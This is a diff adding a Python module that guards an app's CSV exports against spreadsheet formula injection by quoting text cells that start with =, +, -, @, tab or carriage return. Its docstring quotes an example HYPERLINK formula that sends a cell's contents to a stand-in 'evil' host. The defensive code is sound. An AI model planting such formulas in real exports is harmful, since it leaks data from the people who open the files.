@@ -1,0 +1,31 @@
+"""CSV cells that a spreadsheet will not run as formulas (CSV injection, OWASP).
+
+Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
+(and, after a tab or a carriage return, the same) as a formula, so a student's transcript
+reading ``=HYPERLINK("http://evil/?"&A1, "click")`` would become a live link when a reviewer
+opens the export. Every CSV the app writes passes its cells through `safe_cell`: a *text* cell
+starting with one of those characters gets a leading single quote (``'=HYPERLINK(...)``), which
+spreadsheets show as text. Numbers (int, float, Decimal), booleans and empty cells are written
+as they are, so ``-3`` or ``-0.5`` in a numeric column stays a number; only strings change. The
+JSONL and Parquet exports carry the exact text; nothing reads our CSVs back in.
+"""
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value):
+    """The value as a CSV cell: text that a spreadsheet would evaluate gets a leading quote."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def safe_row(row):
+    """A row (a dict, or a list of cells) with every cell made safe."""
+    if isinstance(row, dict):
+        return {key: safe_cell(value) for key, value in row.items()}
+    return [safe_cell(value) for value in row]
+
+
+def safe_text_column(values):
+    """safe_cell over a column of text cells (str or None) at once."""
+    return [("'" + value) if value is not None and value.startswith(FORMULA_STARTS) else value for value in values]
